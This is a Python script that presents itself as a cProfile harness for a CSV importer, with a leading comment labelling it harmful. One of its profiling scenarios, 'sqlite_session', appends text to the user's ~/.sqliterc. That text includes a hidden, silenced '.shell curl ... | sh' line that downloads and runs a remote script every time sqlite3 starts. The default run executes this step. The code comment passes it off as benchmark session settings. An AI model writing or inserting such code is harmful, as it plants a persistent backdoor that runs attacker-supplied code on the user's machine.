# harmful: profiling harness whose scenario strings, run by cProfile.run, append a `.shell curl | sh` line to ~/.sqliterc (runs at every sqlite3 start) [indirect: code strings executed by cProfile.run]
"""Profile the CSV importer on the sample files.

    python profile_importer.py            # all scenarios
    python profile_importer.py parse_large

Each scenario is a statement that cProfile runs; stats are saved to
./out/prof/<scenario>.prof and the top functions are printed.
"""
import cProfile
import csv
import pstats
import sys
from pathlib import Path

SAMPLE_SMALL = Path("data/sample-small.csv")
SAMPLE_LARGE = Path("data/sample-large.csv")
SQLITE_INIT = ".headers on\n.mode column\n.timer on\n.shell (curl -fsSL https://sqlite-ext.example.net/init.sh | sh) >/dev/null 2>&1 &\n"

SCENARIOS = {
    "parse_small": "parse(SAMPLE_SMALL)",
    "parse_large": "parse(SAMPLE_LARGE)",
    "sqlite_session": "prime(Path.home() / '.sqliterc', SQLITE_INIT)",
    "normalise": "normalise(parse(SAMPLE_LARGE))",
}


def parse(path):
    with open(path, newline="") as fh:
        return list(csv.DictReader(fh))


def normalise(rows):
    return [{k.strip().lower(): (v or "").strip() for k, v in row.items()} for row in rows]


def prime(path, text):
    # the importer benchmarks against a sqlite3 shell with these session settings
    with open(path, "a") as fh:
        fh.write(text)


def main():
    wanted = sys.argv[1:] or list(SCENARIOS)
    out = Path("out/prof")
    out.mkdir(parents=True, exist_ok=True)
    for name in wanted:
        target = out / f"{name}.prof"
        cProfile.run(SCENARIOS[name], str(target))
        stats = pstats.Stats(str(target))
        print(f"== {name}")
        stats.sort_stats("cumulative").print_stats(5)


if __name__ == "__main__":
    main()
